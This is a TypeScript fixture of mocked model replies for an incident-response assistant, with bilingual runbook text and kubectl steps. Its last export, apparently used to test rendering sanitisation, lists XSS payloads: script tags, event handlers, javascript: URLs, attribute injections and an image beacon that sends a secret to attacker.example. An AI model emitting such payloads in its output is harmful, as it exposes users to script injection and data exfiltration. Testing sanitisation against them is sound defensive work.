/** What the model of the mock says. */

const sentences = {
  empty: {
    zh: '知识库中没有找到与此相关的内容。我没有其他依据，因此不给出处置步骤。',
    en: 'The knowledge base has nothing on this. I have no other source, so I give no steps.'
  },
  failed: {
    zh: '**知识库检索失败**，我没能查到资料。这不代表知识库中没有相关文档，请稍后再问一次。',
    en: '**Searching the knowledge base failed**, so I could not look. That does not mean that there are no documents on it; please ask again shortly.'
  },
  hello: {
    zh: '你好。我可以查知识库、指标和告警；请描述你看到的现象。',
    en: 'Hello. I can look into the knowledge base, metrics and alerts; tell me what you see.'
  },
  restarted: {
    zh: '\n\n已根据你的决定继续。请观察 `gateway_resets_total` 10 分钟。',
    en: '\n\nI went on as you decided. Watch `gateway_resets_total` for 10 minutes.'
  }
} as const

export const textWith = (zh: boolean, name: keyof typeof sentences): string => sentences[name][zh ? 'zh' : 'en']

export const shortText = (zh: boolean): string =>
  zh
    ? '先摘除异常节点，再重启 `pay-gateway`，恢复后观察 10 分钟[1]。如果仍有重置，再升级到网络组。'
    : 'Take the bad node out first, then restart `pay-gateway` and watch it for 10 minutes [1]. If resets go on, page the network team.'

const code = `\`\`\`bash
# 1. take the node out of the load balancer
kubectl -n pay cordon node-17
kubectl -n pay rollout restart deploy/pay-gateway --timeout=300s && kubectl -n pay rollout status deploy/pay-gateway
\`\`\`

\`\`\`yaml
sysctls:
  - name: net.netfilter.nf_conntrack_max
    value: "1048576" # not [1] a marker
\`\`\``

export const tableText = (zh: boolean): string =>
  zh
    ? `### 结论\n\nE_CONN_RESET 多半由 **conntrack 表满** 引起 [1][2]，先摘除异常节点再重启 [2]。\n\n| 检查 | 命令 | 正常值 | 异常时怎么办 |\n|---|---|---:|---|\n| 连接数 | \`ss -s\` | < 20,000 | 摘除节点 [1] |\n| conntrack | \`sysctl net.netfilter.nf_conntrack_count\` | < 80 % | 调大上限，见下 |\n| 最近发布 | \`kubectl rollout history\` | — | 回滚 |\n\n### 步骤\n\n1. 摘除异常节点：\n2. 重启网关，等待完成：\n\n${code}\n\n> 重启期间支付成功率会短暂下降，对账任务会自动重试。\n\n详见 https://kubernetes.io/docs/ 。`
    : `### What it is\n\nE_CONN_RESET mostly comes from a **full conntrack table** [1][2]; take the bad node out, then restart [2].\n\n| Check | Command | Normal | If not |\n|---|---|---:|---|\n| connections | \`ss -s\` | < 20,000 | take the node out [1] |\n| conntrack | \`sysctl net.netfilter.nf_conntrack_count\` | < 80 % | raise the limit, see below |\n| last release | \`kubectl rollout history\` | — | roll back |\n\n### Steps\n\n1. Take the node out:\n2. Restart the gateway and wait:\n\n${code}\n\n> The payment rate drops for a moment while it restarts; reconciliation tries again by itself.\n\nMore in https://kubernetes.io/docs/ .`

const LONG_PARTS = 14

export const longText = (zh: boolean): string =>
  Array.from({ length: LONG_PARTS }, (_each, index) =>
    zh
      ? `### ${index + 1}. 检查第 ${index + 1} 层\n\n网关到支付服务的连接在高峰期会被重置，日志中出现 \`E_CONN_RESET\`，见运维手册 [${(index % 3) + 1}]。若 conntrack 表已满，新建连接失败，而已建立的连接会在超时后断开[6]。\n\n- 查看 \`ss -s\` 的输出，并与昨天同一时刻比较\n- 查看最近一次发布的时间，必要时回滚\n  - 回滚前先确认数据库没有迁移`
      : `### ${index + 1}. Look at layer ${index + 1}\n\nConnections from the gateway to the payment service are reset at peak hours, and the log has \`E_CONN_RESET\`; see the runbook [${(index % 3) + 1}]. With a full conntrack table new connections fail, and those that are open end at their time-out [6].\n\n- Compare \`ss -s\` with the same hour of yesterday\n- See when the last release was, and roll back if need be\n  - Before that, make sure that no migration ran`
  ).join('\n\n') + `\n\n${code}`

export const evidenceText = (zh: boolean): string =>
  zh
    ? '没有配置对话模型，以下是检索到的证据原文：\n\n1. **连接被重置 › 恢复** — 先摘除异常节点，再重启 pay-gateway。[1]\n2. **连接被重置 › 现象** — 客户端日志出现 E_CONN_RESET。[2]\n3. **连接被重置 › 诊断** [3]\n4. **KubePodCrashLooping** [4]\n5. **Escalation** [5]'
    : 'No chat model is configured; this is the evidence that was found:\n\n1. **连接被重置 › 恢复** — take the bad node out, then restart pay-gateway. [1]\n2. **连接被重置 › 现象** — E_CONN_RESET in the client’s log. [2]\n3. **连接被重置 › 诊断** [3]\n4. **KubePodCrashLooping** [4]\n5. **Escalation** [5]'

/** What somebody may have written into a document, and a model repeated. */
export const hostileText = `<script>document.title = 'owned'</script>

<img src=x onerror="document.title='owned'"> <svg onload=alert(1)><math><mtext></mtext></math></svg> [1]

[press me](javascript:document.title='owned') [data](data:text/html;base64,PHNjcmlwdD4=) ![beacon](https://attacker.example/pixel.png?q=secret)

<a href="javascript:alert(1)">x</a> <iframe src="//attacker.example"></iframe> <!-- <p> -->

[good](https://example.com/ok "onmouseover=alert(1)") <javascript:alert(1)> https://example.com/"onmouseover=alert(1)

\`\`\`"><script>alert(1)</script>
</code></pre><script>document.title='owned'</script>
\`\`\`
`
